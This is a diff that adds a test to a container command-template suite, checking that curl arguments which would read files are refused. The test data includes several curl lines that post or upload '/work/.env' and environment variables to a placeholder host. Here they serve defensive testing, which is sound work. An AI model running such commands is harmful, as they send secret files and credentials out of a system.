@@ -223,6 +223,31 @@ describe('container: argument and option construction (fake runtime; always runs
     expect(await outcome('container:img echo {x}', { x: 'a\0b' })).toMatchObject({ code: 'bad-argument' });
   });
 
+  // Review finding: the curl values a bash: template refuses (`-d @FILE`, `-T FILE`, `--variable %NAME`) reached curl
+  // in a container: template unchecked, and read the container's files (the working folder is mounted there).
+  it('a value curl would read as a file is refused before the runtime starts, as in a bash: template', async () => {
+    await withFakeOnly(['podman']);
+    for (const [template, value] of [
+      ['container:img curl -d {x} http://h/', '@/work/.env'],
+      ['container:img curl -sd{x} http://h/', '@/work/.env'],
+      ['container:img curl -T ./{x} http://h/', '.env'],
+      ['container:img curl -F note={x} http://h/', '</work/.env'],
+      ['container:img curl --variable {x} --expand-data {{{{HOME}}}} http://h/', '%HOME'],
+      ['container:img curl -w {x} -d {x} http://h/', '@/work/.env'],
+    ] as const) {
+      const refused = await outcome(template, { x: value });
+      expect(refused, template).toMatchObject({ ok: false, code: 'bad-argument' });
+      expect(refused.ok || refused.message).toContain('curl would read');
+    }
+    expect(await recorded()).toEqual([]);
+    expect(await outcome('container:img curl -d note={x} http://h/', { x: '@/work/.env' })).toMatchObject({
+      ok: true,
+    });
+    expect(await outcome("container:img curl -d {x} 'http://h/'", { x: 'hello' })).toMatchObject({
+      ok: true,
+    });
+  });
+
   it('chooses podman, else docker; container_runtime picks one; a missing one is named', async () => {
     await withFakeOnly(['podman', 'docker']);
     await outcome('container:img true');
